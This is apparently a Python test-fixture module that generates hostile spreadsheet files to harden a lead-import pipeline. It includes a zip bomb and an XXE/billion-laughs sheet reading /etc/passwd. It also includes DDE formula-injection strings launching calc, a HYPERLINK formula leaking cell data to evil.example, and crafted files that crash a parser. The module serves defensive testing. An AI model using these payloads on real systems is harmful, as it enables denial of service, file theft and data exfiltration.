"""Hostile lead files: what attackers and broken exporters hand a spreadsheet importer.

Each function writes one file at `path`, returns it as a Path, and says what it breaks and why.
Workbooks whose point is a detail a library would "fix" on save (a lying `<dimension>`, two sheets
with one name, a record length) are written part by part with `raw_xlsx` or by hand; where an
ordinary file is the starting point, tests/support/workbooks.py writes it. Everything is small on
disk and deterministic: the same call writes the same bytes.
"""

from __future__ import annotations

import codecs
import random
import struct
import zipfile
import zlib
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import NamedTuple
from xml.sax.saxutils import escape, quoteattr

from tests.support.workbooks import write_csv, write_xls

LEAD_HEADERS = ["Name", "Email", "Phone", "Company"]
_COMPANIES = ["Acme Corp", "Globex GmbH", "Initech", "Umbrella SA", "Hooli"]


def lead_rows(count: int, *, first: int = 1) -> list[list[str]]:
    """LEAD_HEADERS and `count` valid, distinct leads numbered from `first` (each has an email)."""
    rows = [list(LEAD_HEADERS)]
    for number in range(first, first + count):
        phone = f"+1 415 555 {number % 10_000:04d}"
        rows.append([f"Lead {number}", f"lead{number}@example.com", phone, _COMPANIES[number % len(_COMPANIES)]])
    return rows


# --- Hand-written .xlsx ---------------------------------------------------------------------------

_MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
_WORKBOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_STRINGS_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
WORKSHEET_OPEN = f'{_XML_DECLARATION}<worksheet xmlns="{_MAIN_NS}">'

SheetPart = tuple[str, str]  # (worksheet name as the workbook lists it, the worksheet's XML)


def column_letters(number: int) -> str:
    """1 → A, 26 → Z, 27 → AA, 702 → ZZ, 16384 → XFD."""
    letters = ""
    while number:
        number, remainder = divmod(number - 1, 26)
        letters = chr(ord("A") + remainder) + letters
    return letters


def inline_cell(ref: str, text: str) -> str:
    """An inline-string cell: the text lives in the sheet, no sharedStrings part needed."""
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(text)}</t></is></c>'


def row_xml(number: int, cells: Iterable[tuple[int, str | None]]) -> str:
    """One `<row>` from (column number, text) pairs; None and "" are left out, as Excel does."""
    body = "".join(inline_cell(f"{column_letters(column)}{number}", text) for column, text in cells if text)
    return f'<row r="{number}">{body}</row>'


def sheet_xml(rows: Iterable[Sequence[str | None]], *, dimension: str | None = None) -> str:
    """A worksheet holding `rows` from A1 down; `dimension` is the `<dimension ref>` it claims, if any."""
    body = "".join(row_xml(number, enumerate(row, start=1)) for number, row in enumerate(rows, start=1))
    return worksheet_xml(body, dimension=dimension)


def worksheet_xml(sheet_data: str, *, dimension: str | None = None) -> str:
    claimed = f'<dimension ref="{dimension}"/>' if dimension else ""
    return f"{WORKSHEET_OPEN}{claimed}<sheetData>{sheet_data}</sheetData></worksheet>"


def xlsx_parts(sheets: Sequence[SheetPart], shared_strings: Sequence[str] | None = None) -> list[tuple[str, bytes]]:
    """The minimal parts Excel needs, in zip order: content types, relationships, workbook, sheets."""
    overrides = [("/xl/workbook.xml", _WORKBOOK_TYPE)]
    overrides += [(f"/xl/worksheets/sheet{index}.xml", _SHEET_TYPE) for index in range(1, len(sheets) + 1)]
    relationships = [(f"worksheets/sheet{index}.xml", "worksheet") for index in range(1, len(sheets) + 1)]
    if shared_strings is not None:
        overrides.append(("/xl/sharedStrings.xml", _STRINGS_TYPE))
        relationships.append(("sharedStrings.xml", "sharedStrings"))
    parts = [
        ("[Content_Types].xml", _content_types(overrides)),
        ("_rels/.rels", _relationships([("xl/workbook.xml", "officeDocument")])),
        ("xl/workbook.xml", _workbook([name for name, _ in sheets])),
        ("xl/_rels/workbook.xml.rels", _relationships(relationships)),
    ]
    parts += [(f"xl/worksheets/sheet{index}.xml", xml) for index, (_, xml) in enumerate(sheets, start=1)]
    if shared_strings is not None:
        items = "".join(f"<si><t>{escape(text)}</t></si>" for text in shared_strings)
        parts.append(("xl/sharedStrings.xml", f'{_XML_DECLARATION}<sst xmlns="{_MAIN_NS}">{items}</sst>'))
    return [(name, text.encode("utf-8")) for name, text in parts]


def raw_xlsx(path: str | Path, sheets: Sequence[SheetPart], shared_strings: Sequence[str] | None = None) -> Path:
    """An .xlsx written part by part, so every byte is ours: names are not checked, XML is not parsed."""
    with zipfile.ZipFile(path, "w") as package:
        for name, data in xlsx_parts(sheets, shared_strings):
            package.writestr(_dated(name), data, zipfile.ZIP_DEFLATED)
    return Path(path)


def _dated(name: str) -> zipfile.ZipInfo:
    """A member stamped 1980-01-01 rather than now, so the same call writes the same bytes."""
    return zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))


def _content_types(overrides: list[tuple[str, str]]) -> str:
    defaults = (
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
    )
    listed = "".join(f'<Override PartName="{part}" ContentType="{kind}"/>' for part, kind in overrides)
    return (
        f'{_XML_DECLARATION}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f"{defaults}{listed}</Types>"
    )


def _relationships(targets: list[tuple[str, str]]) -> str:
    listed = "".join(
        f'<Relationship Id="rId{index}" Type="{_REL_NS}/{kind}" Target="{target}"/>'
        for index, (target, kind) in enumerate(targets, start=1)
    )
    return f'{_XML_DECLARATION}<Relationships xmlns="{_PACKAGE_REL_NS}">{listed}</Relationships>'


def _workbook(names: list[str]) -> str:
    listed = "".join(
        f'<sheet name={quoteattr(name)} sheetId="{index}" r:id="rId{index}"/>'
        for index, name in enumerate(names, start=1)
    )
    return f'{_XML_DECLARATION}<workbook xmlns="{_MAIN_NS}" xmlns:r="{_REL_NS}"><sheets>{listed}</sheets></workbook>'


# --- A zip written by hand ------------------------------------------------------------------------
# zipfile cannot take data that is already compressed, and spends ~45 µs a member; the zip bomb
# needs the first and 100,000 members need the second to be cheap.

_STORED, _DEFLATED = 0, 8
_UTF8_NAMES = 0x800  # general purpose flag bit 11: member names are UTF-8
_DOS_TIME, _DOS_DATE = 0, 0x21  # 1980-01-01 00:00, so the same call writes the same bytes
_FLUSH_BLOCK = 1 << 20


class _ZipMember(NamedTuple):
    name: str
    method: int
    crc: int
    size: int  # uncompressed
    chunks: Sequence[bytes]  # the compressed (or stored) bytes, in order

    @property
    def compressed_size(self) -> int:
        return sum(map(len, self.chunks))


def _stored(name: str, data: bytes) -> _ZipMember:
    return _ZipMember(name, _STORED, zlib.crc32(data), len(data), [data])


def _deflated(name: str, data: bytes) -> _ZipMember:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)  # raw deflate, as zip stores it
    return _ZipMember(name, _DEFLATED, zlib.crc32(data), len(data), [compressor.compress(data) + compressor.flush()])


def _write_zip(path: str | Path, members: Iterable[_ZipMember]) -> Path:
    """Local headers and data, then the central directory (ZIP64 end records past 65,535 members)."""
    central: list[bytes] = []
    offset = 0
    with open(path, "wb") as out:
        for member in members:
            name, compressed_size = member.name.encode("utf-8"), member.compressed_size
            fields = (member.method, _DOS_TIME, _DOS_DATE, member.crc, compressed_size, member.size, len(name))
            local_header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, _UTF8_NAMES, *fields, 0) + name
            out.write(local_header)
            out.writelines(member.chunks)
            central.append(
                struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, _UTF8_NAMES, *fields, 0, 0, 0, 0, 0, offset)
                + name
            )
            offset += len(local_header) + compressed_size
        start, size, count = offset, sum(map(len, central)), len(central)
        out.writelines(central)
        if count > 0xFFFF:
            zip64_end = start + size
            out.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, size, start))
            out.write(struct.pack("<IIQI", 0x07064B50, 0, zip64_end, 1))
            count = 0xFFFF
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, start, 0))
    return Path(path)


# --- Workbooks that exhaust memory or time --------------------------------------------------------

SPARSE_FAR_CORNER = "XFD1048576"  # the last cell Excel allows: column 16,384, row 1,048,576


def sparse_extent_xlsx(path: str | Path, *, dimension: str | None = f"A1:{SPARSE_FAR_CORNER}") -> Path:
    """~1.6 KB, five cells: a header and a lead in A1:B2, and one more at XFD1048576.

    Breaks: python-calamine 0.9.1 builds a dense range from the first to the last cell, 16,384 x
    1,048,576 cells of 32 bytes, asks for 549,755,813,888 bytes and aborts the whole process
    ("memory allocation of 549755813888 bytes failed"); no exception reaches Python. The default
    `<dimension>` is honest about that extent; see sparse_extent_lying_xlsx for one that hides it.
    """
    rows = row_xml(1, [(1, "Email"), (2, "Name")]) + row_xml(2, [(1, "jane@example.com"), (2, "Jane Doe")])
    far_corner = f'<row r="1048576">{inline_cell(SPARSE_FAR_CORNER, "end")}</row>'
    return raw_xlsx(path, [("Leads", worksheet_xml(rows + far_corner, dimension=dimension))])


def sparse_extent_lying_xlsx(path: str | Path) -> Path:
    """As sparse_extent_xlsx, but `<dimension ref="A1"/>` claims one cell: a reader that sizes its
    buffer or checks the extent from the dimension tag alone is fooled (calamine aborts the same)."""
    return sparse_extent_xlsx(path, dimension="A1")


def zip_bomb_xlsx(path: str | Path, cell_mb: int = 400) -> Path:
    """~1 KB on disk per MB of cell: one sheet whose only cell is an inline string of `cell_mb` MB.

    Breaks: the upload size limit checks the 400 KB on disk, not the 400 MB the XML inflates to;
    calamine holds the whole string (and Python a copy of it), so one upload costs ~1 GB of memory,
    and the one-cell "row" is bigger than any queue message. The member is written from one
    deflated 1 MB block repeated (each block ends in a full flush, so blocks are independent and
    byte-aligned): nothing near 400 MB is ever held in memory.
    """
    head = f'{WORKSHEET_OPEN}<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'.encode()
    tail = b"</t></is></c></row></sheetData></worksheet>"
    block = b"A" * _FLUSH_BLOCK
    crc = zlib.crc32(head)
    for _ in range(cell_mb):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    chunks = [_deflate_block(head, zlib.Z_FULL_FLUSH)]
    chunks += [_deflate_block(block, zlib.Z_FULL_FLUSH)] * cell_mb
    chunks.append(_deflate_block(tail, zlib.Z_FINISH))
    sheet = _ZipMember("xl/worksheets/sheet1.xml", _DEFLATED, crc, len(head) + cell_mb * len(block) + len(tail), chunks)
    parts = [_deflated(name, data) for name, data in xlsx_parts([("Leads", "")]) if name != sheet.name]
    return _write_zip(path, [*parts, sheet])


def _deflate_block(data: bytes, flush_mode: int) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush(flush_mode)


def many_sheets_xlsx(path: str | Path, sheets: int = 5600, rows_per_sheet: int = 1) -> Path:
    """`sheets` worksheets ("Sheet 1" …), each a header and `rows_per_sheet` leads: ~2.4 MB for 5,600.

    Breaks: per-worksheet work and state. Every sheet is opened and parsed on its own, the
    status record keeps counts per worksheet (5,600 entries outgrow a 400 KB DynamoDB item), and
    batches that never span sheets make one queue message per sheet.
    """
    parts = []
    for index in range(sheets):
        rows = lead_rows(rows_per_sheet, first=index * rows_per_sheet + 1)
        parts.append((f"Sheet {index + 1}", sheet_xml(rows)))
    return raw_xlsx(path, parts)


def many_members_xlsx(path: str | Path, members: int = 100_000) -> Path:
    """A valid 20-lead workbook plus `members` one-byte parts nobody refers to: ~12 MB for 100,000.

    Breaks: anything that walks, lists or extracts every zip member (a central directory of
    100,000 entries, needing ZIP64 end records) before looking for the parts it needs.
    """
    parts = [_deflated(name, data) for name, data in xlsx_parts([("Leads", sheet_xml(lead_rows(20)))])]
    padding = (_stored(f"customXml/item{index}.xml", b" ") for index in range(members))
    return _write_zip(path, [*parts, *padding])


def repeated_rows_ods(path: str | Path, repeat: int = 1_048_575) -> Path:
    """~1 KB .ods whose second row says `table:number-rows-repeated`: one lead row, `repeat` times.

    Breaks: row counts and time. The reader expands the repeat into `repeat` identical rows
    (LibreOffice writes repeats for runs of equal rows), so 1 KB becomes a million rows to queue,
    standardize and merge into one lead.
    """
    cells = "".join(_ods_text_cell(text) for text in ("Jane Doe", "jane@example.com"))
    repeated = f'<table:table-row table:number-rows-repeated="{repeat}">{cells}</table:table-row>'
    header = f"<table:table-row>{_ods_text_cell('Name')}{_ods_text_cell('Email')}</table:table-row>"
    return _raw_ods(path, f'<table:table table:name="Leads">{header}{repeated}</table:table>')


def _ods_text_cell(text: str) -> str:
    return f'<table:table-cell office:value-type="string"><text:p>{escape(text)}</text:p></table:table-cell>'


def _raw_ods(path: str | Path, tables_xml: str) -> Path:
    """The least an OpenDocument spreadsheet needs: mimetype (first, stored), manifest, content."""
    office = "urn:oasis:names:tc:opendocument:xmlns"
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="{office}:office:1.0" '
        f'xmlns:table="{office}:table:1.0" xmlns:text="{office}:text:1.0" office:version="1.2">'
        f"<office:body><office:spreadsheet>{tables_xml}</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="{office}:manifest:1.0" '
        'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    with zipfile.ZipFile(path, "w") as package:
        package.writestr(_dated("mimetype"), "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        package.writestr(_dated("META-INF/manifest.xml"), manifest, zipfile.ZIP_DEFLATED)
        package.writestr(_dated("content.xml"), content, zipfile.ZIP_DEFLATED)
    return Path(path)


def entity_expansion_xlsx(path: str | Path) -> Path:
    """A sheet whose DOCTYPE defines nested entities ("billion laughs") and an external one (XXE).

    Breaks: an XML parser that expands entities, in memory (10 levels of 10 → 10^10 "lol") or by
    reading a local file into a cell. A safe reader refuses the sheet; it must never expand it.
    """
    entities = ['<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10)]
    entities.append('<!ENTITY secret SYSTEM "file:///etc/passwd">')
    doctype = f"<!DOCTYPE worksheet [{''.join(entities)}]>"
    body = (
        row_xml(1, [(1, "Name"), (2, "Email")])
        + '<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c>'
        + '<c r="B2" t="inlineStr"><is><t>&secret;</t></is></c></row>'
    )
    xml = worksheet_xml(body).replace("<worksheet ", f"{doctype}<worksheet ", 1)
    return raw_xlsx(path, [("Leads", xml)])


# --- Wide files -----------------------------------------------------------------------------------

_LIKERT = ["1", "2", "3", "4", "5", "Agree", "Disagree", "Neutral", "", "N/A"]
_QUESTION = (
    "Q{number}. Thinking about the last twelve months, how strongly do you agree with the following "
    "statement about our onboarding, support and renewal process (topic {number})?"
)


def wide_survey_rows(columns: int = 702, rows: int = 300, seed: int = 702) -> list[list[str]]:
    """A survey export: `columns` columns of ~150-character questions with Name and Email halfway."""
    rng = random.Random(seed)
    middle = columns // 2
    headers = [_QUESTION.format(number=number) for number in range(1, columns - 1)]
    headers[middle:middle] = ["Name", "Email"]
    table = [headers]
    for number in range(1, rows + 1):
        answers = [rng.choice(_LIKERT) for _ in range(columns - 2)]
        answers[middle:middle] = [f"Respondent {number}", f"respondent{number}@example.com"]
        table.append(answers)
    return table


def wide_survey_csv(path: str | Path, columns: int = 702, rows: int = 300) -> Path:
    """A valid ~1 MB survey export, 702 columns (A to ZZ) x 300 rows, Name and Email in the middle.

    Breaks: nothing should; it is legitimate. It catches readers and header mappers that look
    only at the first N columns, batches sized by rows rather than bytes, and every unmapped
    question kept in `notes` (700 x 150 characters of headers per lead).
    """
    return write_csv(path, wide_survey_rows(columns, rows))


def wide_survey_xlsx(path: str | Path, columns: int = 702, rows: int = 300) -> Path:
    """wide_survey_csv as a workbook (written by hand: openpyxl takes seconds for 210,000 cells)."""
    return raw_xlsx(path, [("Survey", sheet_xml(wide_survey_rows(columns, rows)))])


def fifty_thousand_columns_csv(path: str | Path, columns: int = 50_000, rows: int = 10) -> Path:
    """A header of `columns` columns (Name, Email, then "Field 3" …) and `rows` leads filling all.

    Breaks: per-column work in header mapping (50,000 headers to classify), per-row notes of
    50,000 unmapped values, and row-count batching (each row is ~200 KB once encoded).
    """
    header = ["Name", "Email", *(f"Field {number}" for number in range(3, columns + 1))]
    table = [header]
    for number in range(1, rows + 1):
        table.append([f"Lead {number}", f"lead{number}@example.com", *(["1"] * (columns - 2))])
    return write_csv(path, table)


def giant_cell_csv(path: str | Path, cell_mb: int = 5) -> Path:
    """Ten leads, one of whose Notes cell holds `cell_mb` MB of text.

    Breaks: a single row bigger than a queue message (SQS takes 256 KB): a batcher that caps
    bytes per batch still has to put this one row somewhere, or reject it on its own.
    """
    table = [[*LEAD_HEADERS, "Notes"]] + [[*row, ""] for row in lead_rows(10)[1:]]
    table[5][-1] = "call back " * (cell_mb * _FLUSH_BLOCK // 10)
    return write_csv(path, table)


def giant_cell_xlsx(path: str | Path, cell_mb: int = 5) -> Path:
    """giant_cell_csv as a workbook: one 5 MB inline string among ten leads."""
    table = [[*LEAD_HEADERS, "Notes"]] + [[*row, ""] for row in lead_rows(10)[1:]]
    table[5][-1] = "call back " * (cell_mb * _FLUSH_BLOCK // 10)
    return raw_xlsx(path, [("Leads", sheet_xml(table))])


# --- Damaged workbooks ----------------------------------------------------------------------------

_BIFF_BOF, _BIFF_BOUNDSHEET = 0x0809, 0x0085
_XLWT_WORKBOOK_STREAM = 512  # xlwt writes the Workbook stream right after the 512-byte OLE header


def panicking_xls(path: str | Path) -> Path:
    """A 20-lead .xls from xlwt whose BOUNDSHEET record claims a length of 0 instead of its 13 bytes.

    Breaks: python-calamine 0.9.1 slices the record's first 4 bytes (the sheet's stream offset)
    without checking the length and panics ("range end index 4 out of range for slice of length
    0"), which reaches Python as pyo3_runtime.PanicException: a BaseException, so `except
    CalamineError` and `except Exception` both miss it and the worker thread or process dies.
    Found by setting each record length of the Workbook stream to 0-3 in turn and reading each
    file in a subprocess: short BOF, CODEPAGE, DATEMODE and BOUNDSHEET records all panic like this;
    BOUNDSHEET is the one used because it is the record that says where each worksheet starts.
    """
    write_xls(path, {"Leads": lead_rows(20)})
    data = bytearray(Path(path).read_bytes())
    offset = _biff_record_offset(data, _BIFF_BOUNDSHEET)
    struct.pack_into("<H", data, offset + 2, 0)  # the record header is type (u16), length (u16)
    Path(path).write_bytes(bytes(data))
    return Path(path)


def _biff_record_offset(data: bytes | bytearray, record_type: int) -> int:
    """Where the first record of `record_type` starts in xlwt's Workbook stream (BIFF8 records)."""
    offset = _XLWT_WORKBOOK_STREAM
    if struct.unpack_from("<H", data, offset)[0] != _BIFF_BOF:
        raise ValueError("not an xlwt .xls: the Workbook stream does not start after the OLE header")
    while offset + 4 <= len(data):
        kind, length = struct.unpack_from("<HH", data, offset)
        if kind == record_type:
            return offset
        offset += 4 + length
    raise ValueError(f"no BIFF record 0x{record_type:04x} in the Workbook stream")


def damaged_second_sheet_xlsx(path: str | Path) -> Path:
    """Sheet "Good": 20 leads. Sheet "Cut Short": 180 leads, then its XML stops inside row 182.

    Breaks: error handling per worksheet, after another worksheet was read fine (and may already
    be queued): the file must end with the good sheet accounted and the damage reported, not
    half-counted. calamine 0.9.1 raises XmlError (a CalamineError) for the whole second sheet,
    though its first 180 rows are intact; an exporter that died mid-write leaves files like this.
    """
    cut_short = sheet_xml(lead_rows(200, first=21))
    cut_at = cut_short.index('<row r="182">') + 30
    return raw_xlsx(path, [("Good", sheet_xml(lead_rows(20))), ("Cut Short", cut_short[:cut_at])])


def truncated_xlsx(path: str | Path) -> Path:
    """A 200-lead workbook cut to its first half: a download or copy that stopped, no central directory.

    Breaks: readers that trust the zip: calamine cannot open it at all (good), a streaming zip
    reader would see the first members and no error.
    """
    data = raw_xlsx(path, [("Leads", sheet_xml(lead_rows(200)))]).read_bytes()
    Path(path).write_bytes(data[: len(data) // 2])
    return Path(path)


def dangling_shared_string_xlsx(path: str | Path) -> Path:
    """Shared strings hold 6 entries; row 3 of the sheet points at entry 9,999.

    Breaks: an unchecked index into the shared strings table (a crash, or another cell's text).
    calamine 0.9.1 refuses the sheet ("Cell string index not found in shared strings table").
    """
    strings = ["Name", "Email", "Ann Lee", "ann@example.com", "Bob Ray", "bob@example.com"]

    def shared(ref: str, index: int) -> str:
        return f'<c r="{ref}" t="s"><v>{index}</v></c>'

    rows = [
        f'<row r="1">{shared("A1", 0)}{shared("B1", 1)}</row>',
        f'<row r="2">{shared("A2", 2)}{shared("B2", 3)}</row>',
        f'<row r="3">{shared("A3", 4)}{shared("B3", 9999)}</row>',
    ]
    return raw_xlsx(path, [("Leads", worksheet_xml("".join(rows)))], shared_strings=strings)


def html_disguised_xls(path: str | Path) -> Path:
    """An HTML table saved as .xls, as old "Export to Excel" buttons do (Excel opens it, with a warning).

    Breaks: extension-based format detection: this is text, not an OLE file. Refusing it is
    fair; crashing on it, or reading the markup as CSV rows, is not.
    """
    header = "".join(f"<th>{escape(name)}</th>" for name in LEAD_HEADERS)
    body = "".join("<tr>" + "".join(f"<td>{escape(cell)}</td>" for cell in row) + "</tr>" for row in lead_rows(15)[1:])
    html = (
        '<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">'
        '<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><!--[if gte mso 9]><xml>'
        "<x:ExcelWorkbook><x:ExcelWorksheets><x:ExcelWorksheet><x:Name>Leads</x:Name></x:ExcelWorksheet>"
        "</x:ExcelWorksheets></x:ExcelWorkbook></xml><![endif]--></head>"
        f"<body><table><tr>{header}</tr>{body}</table></body></html>\r\n"
    )
    Path(path).write_text(html, encoding="utf-8")
    return Path(path)


# --- Ambiguous structure --------------------------------------------------------------------------


def duplicate_sheet_names_xlsx(path: str | Path) -> Path:
    """Two worksheets both named "Leads": 10 leads in the first, 15 other leads in the second.

    Breaks: anything keyed by sheet name. calamine 0.9.1 lists "Leads" twice and returns the
    first sheet both times, so the second sheet's 15 leads silently vanish and the first's are
    counted twice; per-worksheet counts and sources collide. Excel and openpyxl refuse to write this.
    """
    return raw_xlsx(path, [("Leads", sheet_xml(lead_rows(10))), ("Leads", sheet_xml(lead_rows(15, first=11)))])


def empty_sheet_name_xlsx(path: str | Path) -> Path:
    """One worksheet named "" holding 10 leads.

    Breaks: code that treats an empty or falsy sheet name as "no sheet" (CSV), as a missing key,
    or builds `sheet!row` references and labels from it.
    """
    return raw_xlsx(path, [("", sheet_xml(lead_rows(10)))])


FORMULA_SHEET_NAME = '=HYPERLINK("http://evil.example/x","Leads")'
_FORMULA_VALUES = ["=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def formula_injection_xlsx(path: str | Path) -> Path:
    """Formulas where text belongs: a sheet named =HYPERLINK(...), a header that is a HYPERLINK
    formula (cached value "Email"), and Company cells starting with = + - @.

    Breaks: exports and reports that write such text back unescaped (CSV injection: Excel runs
    it when the user opens the export), and sheet-name handling that puts quotes, slashes and
    colons (which Excel forbids in names) into keys or file names.
    """
    formula_header = '<c r="B1" t="str"><f>HYPERLINK("http://evil.example/?leak="&amp;C2,"Email")</f><v>Email</v></c>'
    header = f'<row r="1">{inline_cell("A1", "Name")}{formula_header}{inline_cell("C1", "Company")}</row>'
    rows = [header]
    for index, value in enumerate(_FORMULA_VALUES, start=2):
        cells = [(1, f"Lead {index}"), (2, f"lead{index}@example.com"), (3, value)]
        rows.append(row_xml(index, cells))
    return raw_xlsx(path, [(FORMULA_SHEET_NAME, worksheet_xml("".join(rows)))])


def formula_injection_csv(path: str | Path) -> Path:
    """Leads whose Name, Company and Phone cells start with = + - @ (CSV injection payloads).

    Breaks: the lead export and the rejected-rows report if they write these back unescaped.
    """
    table = [list(LEAD_HEADERS)]
    for index, value in enumerate(_FORMULA_VALUES, start=1):
        table.append([value, f"lead{index}@example.com", "=1+1", value])
    table.append([FORMULA_SHEET_NAME, "hyperlink@example.com", "+1 415 555 0100", "Acme"])
    return write_csv(path, table)


# --- Text files -----------------------------------------------------------------------------------


def unterminated_quote_csv(path: str | Path) -> Path:
    """100 leads; row 3's email opens a quote that never closes.

    Breaks: a CSV parser in quoted mode swallows the rest of the file, newlines included, into
    that one field: 98 leads disappear into one cell (or the parser hits its field size limit).
    The honest outcome names the row; silently importing 2 rows is wrong.
    """
    lines = [",".join(row) for row in lead_rows(100)]
    name, email, phone, company = lines[3].split(",")
    lines[3] = f'{name},"{email},{phone},{company}'
    Path(path).write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-8"))
    return Path(path)


_LONG_NOTE = (
    "Met at the spring trade show; asked for pricing for 25 seats, a demo for the sales team and a call "
    "back after the budget review in Q3. Prefers email. Assistant: Kim (ext. 214)."
)
_ACCENTED = [("José", "García"), ("Jürgen", "Müller"), ("Renée", "Dubois"), ("Zoë", "Brontë"), ("François", "Lefèvre")]


def mixed_encoding_csv(path: str | Path, rows: int = 20) -> Path:
    """Leads with accented names, lines alternately UTF-8 and Windows-1252: two files concatenated.

    Breaks: one encoding per file. Decoded as UTF-8, the cp1252 lines fail (or turn into U+FFFD);
    decoded as cp1252, the UTF-8 lines turn into mojibake ("JosÃ©"). Either way no row is lost.
    """
    lines = ["Name,Email,Phone".encode("ascii")]
    for number in range(1, rows + 1):
        first, last = _ACCENTED[number % len(_ACCENTED)]
        line = f"{first} {last},lead{number}@example.com,+1 415 555 {number:04d}"
        lines.append(line.encode("utf-8" if number % 2 else "cp1252"))
    Path(path).write_bytes(b"\r\n".join(lines) + b"\r\n")
    return Path(path)


def _accented_lead_text(rows: int = 20) -> str:
    table = [["Name", "Email", "Phone"]]
    for number in range(1, rows + 1):
        first, last = _ACCENTED[number % len(_ACCENTED)]
        table.append([f"{first} {last}", f"lead{number}@example.com", f"+1 415 555 {number:04d}"])
    return "".join(",".join(row) + "\r\n" for row in table)


def utf16_without_bom_csv(path: str | Path, *, big_endian: bool = False) -> Path:
    """Leads in UTF-16 (LE or BE) with no byte order mark, as some database tools export.

    Breaks: BOM-only UTF-16 detection: every other byte is NUL, so a sniffer calls it binary
    (or decodes it as cp1252 with NULs). The NUL pattern gives the byte order away.
    """
    Path(path).write_bytes(_accented_lead_text().encode("utf-16-be" if big_endian else "utf-16-le"))
    return Path(path)


def utf32_csv(path: str | Path, *, big_endian: bool = False, bom: bool = True) -> Path:
    """Leads in UTF-32 (LE or BE), with or without a BOM.

    Breaks: BOM tables checked in the wrong order: the UTF-32-LE BOM FF FE 00 00 starts with the
    UTF-16-LE BOM FF FE, so the file is decoded as UTF-16 with a NUL after every character.
    """
    encoding = "utf-32-be" if big_endian else "utf-32-le"
    mark = (codecs.BOM_UTF32_BE if big_endian else codecs.BOM_UTF32_LE) if bom else b""
    Path(path).write_bytes(mark + _accented_lead_text().encode(encoding))
    return Path(path)


def nul_byte_csv(path: str | Path, rows: int = 600) -> Path:
    """`rows` leads with notes (~140 KB), one NUL byte inside the Company cell of the middle row.

    Breaks: binary detection that looks only at the start of the file (the NUL sits past the
    first 64 KB), and C-string handling that truncates the cell, the row or the file at NUL.
    """
    table = [[*LEAD_HEADERS, "Notes"]] + [[*lead, _LONG_NOTE] for lead in lead_rows(rows)[1:]]
    table[rows // 2][3] = "Acme\x00Corp"
    return write_csv(path, table)


def empty_file(path: str | Path) -> Path:
    """Zero bytes (any extension). Breaks: size checks (`fileSize` 0), and readers that assume a first byte."""
    Path(path).write_bytes(b"")
    return Path(path)


def bom_only_csv(path: str | Path) -> Path:
    """Just the UTF-8 byte order mark: 3 bytes that decode to an empty file.

    Breaks: "empty" checks on the raw bytes (3 > 0) rather than on the decoded text.
    """
    Path(path).write_bytes(codecs.BOM_UTF8)
    return Path(path)
